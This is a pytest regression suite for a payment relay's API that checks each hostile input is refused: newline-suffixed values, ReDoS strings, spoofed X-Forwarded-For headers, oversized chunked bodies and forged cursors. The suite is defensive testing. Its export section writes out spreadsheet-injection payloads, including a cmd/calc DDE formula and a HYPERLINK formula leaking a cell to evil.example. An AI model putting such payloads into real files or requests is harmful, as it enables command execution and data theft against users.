"""Issue 12, the hostile-input regression suite: each input an attacker round got past validation, or turned into a
500, or used to dodge a guard, is here with the answer it must get. Each test fails with its guard removed.

1. whole-value patterns (a trailing newline)    6. spreadsheet-safe CSV exports
2. required metadata and non-finite numbers     7. body limits for every framing
3. typed token settings (one schema)            8. throttle failures, never valid tokens; trusted proxies only
4. dates that cannot be represented             9. cursors no page handed out
5. linear-time user patterns                    (Schemathesis over the admin API: tests/test_hostile.py)
"""

import csv
import io
import json
import os
import pathlib
import runpy
import shutil
import time
from types import SimpleNamespace

import pytest
import requests
from click.testing import CliRunner
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from conftest import auth, base_settings, credits, deposit, gunicorn_relay, migrated_token, sqlite_url
from relay import cli, db, ledger, openapi, tokens, validation

DEPOSIT = "/v1/user/balance/deposit"
SCHEMAS = pathlib.Path(__file__).resolve().parents[1] / "schemas"
ISSUE_PATTERN = "[a-z]+:[a-z0-9]*[a-z0-9]*[a-z0-9]*[a-z0-9]*[a-z0-9]*[a-z0-9]*"


def problem(response, status: int, name: str = "validation") -> dict:
    assert response.status_code == status, response.get_data(as_text=True)[:500]
    assert response.mimetype == "application/problem+json"
    body = response.get_json(force=True)
    assert body["type"] == f"urn:paywalls-relay:problem:{name}"
    return body


def fields(response) -> set[str]:
    return {error["field"] for error in problem(response, 422)["errors"]}


def admin(app) -> dict:
    return {"Authorization": f"Bearer {app.config['RELAY']['RELAY_ADMIN_KEY']}"}


@pytest.fixture
def relay(make_app):
    return make_app()


# --- 1. whole-value matching ------------------------------------------------------------------------------------

def _patterns(schema) -> set[str]:
    found = set()
    if isinstance(schema, dict):
        for key, value in schema.items():
            if key == "pattern" and isinstance(value, str):
                found.add(value)
            else:
                found |= _patterns(value)
    elif isinstance(schema, list):
        for item in schema:
            found |= _patterns(item)
    return found


SCHEMA_PATTERNS = sorted(set().union(*(_patterns(json.loads(path.read_text())) for path in SCHEMAS.glob("*.json")))
                         | _patterns(openapi.document()))


def test_the_schemas_have_patterns_to_check():
    assert len(SCHEMA_PATTERNS) >= 8 and "^[A-Za-z0-9_.:-]+$" in SCHEMA_PATTERNS


@pytest.mark.parametrize("pattern", SCHEMA_PATTERNS)
@settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
@given(data=st.data())
def test_every_schema_pattern_refuses_a_trailing_newline(pattern, data):
    value = data.draw(st.from_regex(pattern.replace("$", r"\Z")))
    matches = validation.compiled(pattern).search
    assume(matches(value) and not value.endswith("\n"))
    assert not matches(value + "\n"), (pattern, value)


@pytest.mark.parametrize("body,field", [({"user": "acme:nl\n", "amount": "10"}, "user"),
                                        ({"user": "acme:nl", "amount": "10\n"}, "amount")])
def test_a_trailing_newline_is_not_a_second_user_or_an_amount(client, token, sandbox, body, field):
    assert fields(deposit(client, token, body)) == {field}
    assert credits(sandbox) == []


def test_a_user_pattern_cannot_be_passed_with_a_newline(client, make_token, sandbox):
    _, text = make_token(user_pattern="acme:[^:]+")
    assert fields(deposit(client, text, {"user": "acme:bob\n", "amount": "1"})) == {"user"}
    assert deposit(client, text, {"user": "acme:bob", "amount": "1"}).status_code == 200
    assert [c["user"] for c in credits(sandbox)] == ["acme:bob"]


@pytest.mark.parametrize("query,field", [({"cursor": "led_1\n"}, "cursor"), ({"since": "2026-11-01\n"}, "since"),
                                         ({"limit": "5\n"}, "limit"), ({"user": "acme:u\n"}, "user")])
def test_feed_queries_are_whole_values_too(client, token, query, field):
    assert fields(client.get("/v1/relay/deposits", query_string=query, headers=auth(token))) == {field}


def test_code_patterns_match_whole_values():
    _, _, text = tokens.new_token()
    assert tokens.split(text) is not None and tokens.split(text + "\n") is None
    with pytest.raises(ValueError):
        tokens.parse_duration("30s\nx")


# --- 2. required metadata, non-finite numbers ----------------------------------------------------------------------

@pytest.mark.parametrize("blank", [" ", "\n", "\u200b", "\u200b \u3000\ufeff", "\t\r", False, True, [], {}, None, ""])
def test_required_metadata_is_not_satisfied_by_blanks(client, make_token, sandbox, blank):
    _, text = make_token(required_metadata=["invoice_id"])
    response = deposit(client, text, {"user": "acme:u1", "amount": "1", "metadata": {"invoice_id": blank}})
    assert fields(response) == {"metadata.invoice_id"}
    assert credits(sandbox) == []


@pytest.mark.parametrize("value", ["in_1", " in_2 ", 0, 12.5, -3])
def test_required_metadata_takes_text_or_a_finite_number(client, make_token, sandbox, value):
    _, text = make_token(required_metadata=["invoice_id"])
    assert deposit(client, text, {"user": "acme:u1", "amount": "1", "metadata": {"invoice_id": value}}).status_code == 200


@pytest.mark.parametrize("number", [b"1e400", b"-1e400", b"1e-400", b"[1, {\"y\": 2E+999}]"])
def test_non_finite_numbers_in_metadata_are_422_not_500(client, token, sandbox, number):
    data = b'{"user": "acme:u1", "amount": "1", "metadata": {"x": ' + number + b"}}"
    response = client.post(DEPOSIT, data=data, headers={**auth(token), "Content-Type": "application/json"})
    assert {f.split(".")[0] + "." + f.split(".")[1] for f in fields(response)} == {"metadata.x"}
    assert credits(sandbox) == []


# --- 3. typed token settings, one schema -----------------------------------------------------------------------

def test_disabled_false_creates_an_active_token(relay):
    response = relay.test_client().post("/v1/admin/tokens", json={"label": "t", "disabled": False}, headers=admin(relay))
    assert response.status_code == 201, response.get_json()
    assert response.get_json()["status"] == "active"


@pytest.mark.parametrize("setting", [{"disabled": "false"}, {"disabled": 0}, {"rate_limit": "0/minute"},
                                     {"rate_limit": "0 per hour"}, {"max_amount": "0.0000001"}, {"max_amount": 1e-7},
                                     {"max_amount": "1e30"}, {"daily_cap": 1e30}, {"monthly_cap": True},
                                     {"namespace": "bad namespace!"}, {"namespace": 5}, {"operations": "deposit"},
                                     {"label": "line\nbreak"}, {"label": "   "}, {"required_metadata": [""]},
                                     {"dedupe_on": ["email"]}, {"expires_in": "30s\n"}, {"user_pattern": 7}])
def test_untyped_or_out_of_range_settings_are_422_naming_the_field(relay, setting):
    client, name = relay.test_client(), next(iter(setting))
    created = client.post("/v1/admin/tokens", json={"label": "t", **setting}, headers=admin(relay))
    assert fields(created) == {name}
    message = problem(created, 422)["errors"][0]["message"]
    assert message.startswith(name) and "NoneType" not in message and "Traceback" not in message
    token_id = client.post("/v1/admin/tokens", json={"label": "ok"}, headers=admin(relay)).get_json()["id"]
    patched = client.patch(f"/v1/admin/tokens/{token_id}", json=setting, headers=admin(relay))
    assert fields(patched) == {name}
    assert client.get(f"/v1/admin/tokens/{token_id}", headers=admin(relay)).get_json()["status"] == "active"


def test_the_admin_api_and_the_cli_read_one_schema(env_cli):
    spec = json.loads((SCHEMAS / "token-settings.json").read_text())
    assert set(spec["properties"]) == set(tokens.FIELD_PARSERS) | {"expires_in", "expires_at"}
    document = openapi.document()
    assert document["components"]["schemas"]["token_settings"]["properties"].keys() == spec["properties"].keys()
    result = CliRunner().invoke(cli.main, ["tokens", "create", "--label", "x", "--rate-limit", "0/minute"])
    assert result.exit_code == 2 and "--rate-limit: rate_limit must be a count of at least 1" in result.output
    result = CliRunner().invoke(cli.main, ["tokens", "create", "--label", "x", "--max-amount", "0.0000001"])
    assert result.exit_code == 2 and "--max-amount" in result.output and "Traceback" not in result.output


def test_the_admin_api_is_documented_under_its_own_security_scheme():
    document = openapi.document()
    assert document["components"]["securitySchemes"]["adminKey"]["scheme"] == "bearer"
    admin_operations = [(path, method, operation) for path, item in document["paths"].items()
                        if path.startswith("/v1/admin/") for method, operation in item.items()]
    assert {(path, method) for path, method, _ in admin_operations} == {
        ("/v1/admin/tokens", "post"), ("/v1/admin/tokens", "get"), ("/v1/admin/tokens/{token_id}", "get"),
        ("/v1/admin/tokens/{token_id}", "patch"), ("/v1/admin/tokens/{token_id}/revoke", "post"),
        ("/v1/admin/tokens/{token_id}/rotate", "post")}
    assert all(operation["security"] == [{"adminKey": []}] for _, _, operation in admin_operations)


def test_admin_bodies_follow_the_body_rules(relay):
    client = relay.test_client()
    problem(client.post("/v1/admin/tokens", data=b'{"label": "a", "label": "b"}', headers={
        **admin(relay), "Content-Type": "application/json"}), 400, "malformed-body")
    problem(client.post("/v1/admin/tokens", data=b"label=x", headers={
        **admin(relay), "Content-Type": "application/x-www-form-urlencoded"}), 415, "unsupported-media-type")


# --- 4. dates ----------------------------------------------------------------------------------------------------

EDGE_DATES = ["0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-01:00", "2026-02-30", "2026-11-01T25:00:00Z",
              "2026-11-01T00:00:00+24:00", "\u0662\u0660\u0662\u0666-11-01", "tomorrow", "2026-11-01T00:00:00Z\n"]


@pytest.mark.parametrize("since", EDGE_DATES)
def test_feed_since_that_cannot_be_represented_is_422(client, token, since):
    assert fields(client.get("/v1/relay/deposits", query_string={"since": since}, headers=auth(token))) == {"since"}


@pytest.mark.parametrize("moment", EDGE_DATES)
def test_admin_expires_at_that_cannot_be_represented_is_422(relay, moment):
    response = relay.test_client().post("/v1/admin/tokens", json={"label": "t", "expires_at": moment},
                                        headers=admin(relay))
    assert fields(response) == {"expires_at"}


@pytest.mark.parametrize("moment", ["0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-01:00", "2026-13-01"])
@pytest.mark.parametrize("option", ["--since", "--until"])
def test_ledger_export_refuses_such_dates_without_a_traceback(env_cli, moment, option):
    args = ["ledger", "export", "--since", "2026-01-01", option, moment]
    result = CliRunner().invoke(cli.main, args)
    assert result.exit_code == 2 and option in result.output and "Traceback" not in result.output
    assert not isinstance(result.exception, Exception) or isinstance(result.exception, SystemExit)


@pytest.mark.parametrize("moment", ["2026-11-01", "2026-11-01T00:00:00Z", "2026-11-01T01:00:00+01:00",
                                    "0001-01-01T00:00:00Z", "9999-12-31T23:59:59+01:00"])
def test_representable_dates_are_accepted(client, token, moment):
    assert client.get("/v1/relay/deposits", query_string={"since": moment}, headers=auth(token)).status_code == 200


# --- 5. linear-time user patterns ----------------------------------------------------------------------------------

def test_the_issue_pattern_is_matched_in_linear_time(client, make_token, sandbox):
    token_id, text = make_token(user_pattern=ISSUE_PATTERN, operations=["deposit", "balance", "ledger"])
    hostile_user = "a:" + "0" * 69 + "_"  # 72 characters the pattern almost matches: seconds in a backtracking engine
    started = time.monotonic()
    problem(deposit(client, text, {"user": hostile_user, "amount": "1"}), 403, "forbidden")
    problem(client.get("/v1/user/balance", query_string={"user": hostile_user}, headers=auth(text)), 403, "forbidden")
    assert time.monotonic() - started < 1.0
    started = time.monotonic()
    assert not tokens.user_allowed(SimpleNamespace(user_pattern=ISSUE_PATTERN), "a:" + "0" * 125 + "_")
    assert time.monotonic() - started < 0.1
    assert deposit(client, text, {"user": "acme:u1", "amount": "1"}).status_code == 200


@pytest.mark.parametrize("pattern", [r"(a)\1", "(?=acme)acme:.*", "(?<!x)acme", "(?P<n>a)(?P=n)", ".{0,1000}" * 22])
def test_patterns_the_linear_engine_cannot_run_are_refused(relay, pattern):
    started = time.monotonic()
    response = relay.test_client().post("/v1/admin/tokens", json={"label": "t", "user_pattern": pattern},
                                        headers=admin(relay))
    assert fields(response) == {"user_pattern"}
    assert time.monotonic() - started < 1.0  # the huge program is refused, not built (about 2 s)


# --- 6. spreadsheet-safe exports ------------------------------------------------------------------------------------

def test_csv_export_neutralises_formulas_and_jsonl_stays_raw(make_app, sandbox):
    app = make_app()
    label = "=cmd|' /C calc'!A0"
    with app.app_context(), db.transaction() as session:
        _, text = tokens.create(session, {"label": label})
    client = app.test_client()
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    assert deposit(client, text, {"user": "-2-3", "amount": "1", "metadata": {"note": "@SUM(1+1)", "n": "+1"}},
                   headers={"X-Request-Id": hyperlink}).status_code == 200
    assert deposit(client, text, {"user": "-9", "amount": "2"}, headers={"X-Request-Id": "+1+cmd"}).status_code == 200
    with app.app_context(), db.read() as session:
        rows = list(ledger.export_rows(session, ledger_since()))
    out = io.StringIO()
    ledger.write_export(iter(rows), out, "csv")
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert cells and not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    exported = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["user"] for r in exported] == ["'-2-3", "'-9"] and exported[1]["request_id"] == "'+1+cmd"
    assert exported[0]["request_id"] == "'" + hyperlink and exported[0]["token_label"] == "'" + label
    raw = io.StringIO()
    ledger.write_export(iter(rows), raw, "jsonl")
    first = json.loads(raw.getvalue().splitlines()[0])
    assert first["user"] == "-2-3" and first["request_id"] == hyperlink and first["token_label"] == label


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tcmd", "\rcmd"])
def test_every_formula_start_is_neutralised(cell):
    out = io.StringIO()
    ledger.write_export(iter([{name: None for name in ledger.EXPORT_COLUMNS} | {"user": cell, "metadata": None}]),
                        out, "csv")
    assert next(csv.DictReader(io.StringIO(out.getvalue(), newline="")))["user"] == "'" + cell


def ledger_since():
    from datetime import datetime, timezone
    return datetime(2000, 1, 1, tzinfo=timezone.utc)


# --- 7. body limits for every framing ------------------------------------------------------------------------------

def _chunked(client, token, data: bytes):
    """A body without Content-Length, ended by the server, as gunicorn hands over a chunked request."""
    return client.post(DEPOSIT, input_stream=io.BytesIO(data), headers={**auth(token), "Content-Type": "application/json"},
                       environ_overrides={"wsgi.input_terminated": True, "CONTENT_LENGTH": "",
                                          "HTTP_TRANSFER_ENCODING": "chunked"})


def test_unknown_length_bodies_over_16_kib_are_413(client, token, sandbox):
    padded = b'{"user": "acme:u1", "amount": "1"}' + b" " * (17 * 1024)
    problem(_chunked(client, token, padded), 413, "body-too-large")
    cut_at_the_limit = b'{"user": "acme:u1", "amount": "1", "metadata": {"p": "' + b"x" * (17 * 1024) + b'"}}'
    problem(_chunked(client, token, cut_at_the_limit), 413, "body-too-large")
    assert credits(sandbox) == []
    exactly = b'{"user": "acme:u1", "amount": "1"}'
    exactly += b" " * (16 * 1024 - len(exactly))
    assert _chunked(client, token, exactly).status_code == 200


def test_chunked_bodies_over_16_kib_are_413_under_gunicorn(sandbox, tmp_path):
    url_db = sqlite_url(tmp_path)
    token = migrated_token(url_db, operations=["deposit"])
    with gunicorn_relay(base_settings(url_db, sandbox.url), workers=1, threads=2) as (url, _process):
        def chunks(body: bytes):
            for start in range(0, len(body), 4096):
                yield body[start:start + 4096]
        headers = {**auth(token), "Content-Type": "application/json"}
        padded = b'{"user": "acme:u1", "amount": "1"}' + b" " * (17 * 1024)
        answer = requests.post(url + DEPOSIT, data=chunks(padded), headers=headers, timeout=10)
        assert answer.status_code == 413 and answer.json()["type"].endswith("body-too-large")
        small = requests.post(url + DEPOSIT, data=chunks(b'{"user": "acme:u1", "amount": "1"}'), headers=headers,
                              timeout=10)
        assert small.status_code == 200
    assert len(credits(sandbox)) == 1


# --- 8. throttle failures, never valid tokens; trusted proxies only -------------------------------------------------

def test_a_valid_token_works_after_50_failures_from_its_address(make_app, sandbox):
    app = make_app(RELAY_AUTH_FAILURE_LIMIT="20/minute")
    client = app.test_client()
    with app.app_context(), db.transaction() as session:
        _, good = tokens.create(session, {"label": "another Zap", "operations": ["deposit"]})
    _, _, wrong = tokens.new_token()
    statuses = [client.get("/v1/relay/me", headers=auth(wrong)).status_code for _ in range(50)]
    assert statuses == [401] * 20 + [429] * 30
    assert client.get("/v1/relay/me", headers=auth(good)).status_code == 200
    assert deposit(client, good).status_code == 200
    assert client.get("/v1/relay/me", headers=auth(wrong)).status_code == 429


def test_forwarded_for_is_ignored_from_peers_not_listed(make_app):
    app = make_app(RELAY_TRUST_PROXY=1, FORWARDED_ALLOW_IPS="10.0.0.1", RELAY_AUTH_FAILURE_LIMIT="5/minute")
    client = app.test_client()
    _, _, wrong = tokens.new_token()
    direct = [client.get("/v1/relay/me", headers={**auth(wrong), "X-Forwarded-For": f"198.51.100.{n}"},
                         environ_base={"REMOTE_ADDR": "203.0.113.9"}).status_code for n in range(55)]
    assert direct == [401] * 5 + [429] * 50  # rotating X-Forwarded-For straight to the port buys nothing
    via_proxy = [client.get("/v1/relay/me", headers={**auth(wrong), "X-Forwarded-For": "198.51.100.7"},
                            environ_base={"REMOTE_ADDR": "10.0.0.1"}).status_code for _ in range(6)]
    assert via_proxy == [401] * 5 + [429]  # the listed proxy's client address is counted on its own
    other_client = client.get("/v1/relay/me", headers={**auth(wrong), "X-Forwarded-For": "198.51.100.8"},
                              environ_base={"REMOTE_ADDR": "10.0.0.1"})
    assert other_client.status_code == 401


def test_a_listed_network_and_star_are_trusted(make_app):
    for allowed, peer in (("10.0.0.0/8", "10.20.30.40"), ("*", "192.0.2.1")):
        app = make_app(RELAY_TRUST_PROXY=1, FORWARDED_ALLOW_IPS=allowed, RELAY_AUTH_FAILURE_LIMIT="2/minute")
        client = app.test_client()
        _, _, wrong = tokens.new_token()
        statuses = [client.get("/v1/relay/me", headers={**auth(wrong), "X-Forwarded-For": f"198.51.100.{n}"},
                               environ_base={"REMOTE_ADDR": peer}).status_code for n in range(6)]
        assert statuses == [401] * 6, allowed


def test_gunicorn_and_the_app_read_one_proxy_setting(monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("FORWARDED_ALLOW_IPS", "10.1.0.0/16,192.0.2.5")
    saved = dict(os.environ)
    try:
        conf = runpy.run_path(str(SCHEMAS.parent / "gunicorn.conf.py"))
    finally:
        # gunicorn.conf.py sets variables for gunicorn's own processes (PROMETHEUS_MULTIPROC_DIR, RELAY_SERVER): they
        # must not leak into the rest of this test run, where /metrics would then read an empty multiprocess folder.
        made = os.environ.get("PROMETHEUS_MULTIPROC_DIR")
        os.environ.clear()
        os.environ.update(saved)
        if made and made != saved.get("PROMETHEUS_MULTIPROC_DIR"):
            shutil.rmtree(made, ignore_errors=True)
    assert conf["forwarded_allow_ips"] == "10.1.0.0/16,192.0.2.5"
    from relay import config
    assert config.from_env()["FORWARDED_ALLOW_IPS"] == conf["forwarded_allow_ips"]
    monkeypatch.setenv("FORWARDED_ALLOW_IPS", "not-an-address")
    with pytest.raises(config.ConfigError, match="FORWARDED_ALLOW_IPS"):
        config.from_env()


# --- 9. cursors -----------------------------------------------------------------------------------------------------

def test_cursors_no_page_handed_out_are_refused(client, token, sandbox):
    for n in range(3):
        assert deposit(client, token, {"user": f"acme:u{n}", "amount": "1"}).status_code == 200
    assert client.post("/v1/user/charge", json={"user": "acme:u0", "amount": "1"}, headers=auth(token)).status_code == 200
    first = client.get("/v1/relay/deposits", query_string={"limit": 2}, headers=auth(token)).get_json()
    assert first["next_cursor"]
    second = client.get("/v1/relay/deposits", query_string={"limit": 2, "cursor": first["next_cursor"]},
                        headers=auth(token))
    assert second.status_code == 200 and [e["user"] for e in second.get_json()["data"]] == ["acme:u0"]
    newest = int(first["data"][0]["id"][4:])
    for cursor in ["led_0", "led_00", f"led_0{newest}", f"led_{newest + 1}", f"led_{newest + 1000}", "led_-1", "led_\u0661"]:
        response = client.get("/v1/relay/deposits", query_string={"cursor": cursor}, headers=auth(token))
        assert fields(response) == {"cursor"}, cursor
    other_user = client.get("/v1/relay/deposits", query_string={"cursor": first["next_cursor"], "user": "acme:u0"},
                            headers=auth(token))
    assert fields(other_user) == {"cursor"}  # handed out for all users, not for acme:u0's pages


@pytest.mark.parametrize("limit", ["\u00b2", "\u0661", "1e1", "0", "101", "-1", " 5"])
def test_feed_limits_that_are_not_ascii_numbers_are_422(client, token, limit):
    assert fields(client.get("/v1/relay/deposits", query_string={"limit": limit}, headers=auth(token))) == {"limit"}


# --- the CLI against a migrated database ------------------------------------------------------------------------------

@pytest.fixture
def env_cli(operator_env):
    return operator_env
